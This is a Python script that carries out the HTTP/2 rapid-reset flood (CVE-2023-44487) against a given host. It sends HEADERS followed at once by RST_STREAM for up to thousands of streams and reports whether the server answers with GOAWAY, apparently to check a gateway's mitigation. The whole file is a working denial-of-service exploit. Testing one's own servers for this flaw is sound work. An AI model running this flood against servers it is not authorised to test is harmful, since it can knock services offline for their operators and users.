"""HTTP/2 rapid-reset flood (CVE-2023-44487) against a gateway, with the `h2` library.

Opens one cleartext HTTP/2 connection (prior knowledge), then sends HEADERS followed at
once by RST_STREAM(CANCEL) for up to N streams, reading what the server sends back.
Prints one JSON line: whether the server answered with GOAWAY, its error code, and how
many streams were opened before it did. Bounded: N streams, a 10 s socket timeout.

usage: python3 h2_rapid_reset.py HOST PORT AUTHORITY [N]
"""
import json
import socket
import sys

import h2.config
import h2.connection
import h2.events
import h2.exceptions

host, port, authority = sys.argv[1], int(sys.argv[2]), sys.argv[3]
n = int(sys.argv[4]) if len(sys.argv) > 4 else 5000

sock = socket.create_connection((host, port), timeout=10)
conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
conn.initiate_connection()
sock.sendall(conn.data_to_send())

goaway = None
opened = 0
closed = False


def pump():
    """Reads what the server sent (until it goes quiet for the socket's timeout)."""
    global goaway, closed
    while True:
        data = sock.recv(65536)
        if not data:
            closed = True
            return
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                goaway = event.error_code
        sock.sendall(conn.data_to_send())
        if goaway is not None:
            return


headers = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", authority)]
try:
    for i in range(n):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, headers, end_stream=True)
        conn.reset_stream(stream_id)
        opened += 1
        sock.sendall(conn.data_to_send())
        if i % 50 == 49:
            # Read whatever the server has sent so far, without blocking for long.
            sock.settimeout(0.001)
            try:
                pump()
            except (socket.timeout, BlockingIOError):
                pass
            finally:
                sock.settimeout(10)
        if goaway is not None or closed:
            break
    if goaway is None and not closed:
        # Drain until the server answers, closes or goes quiet.
        pump()
except (ConnectionError, OSError, h2.exceptions.ProtocolError) as e:
    closed = True
except socket.timeout:
    pass
print(json.dumps({"goaway": int(goaway) if goaway is not None else None, "closed": closed, "opened": opened}))
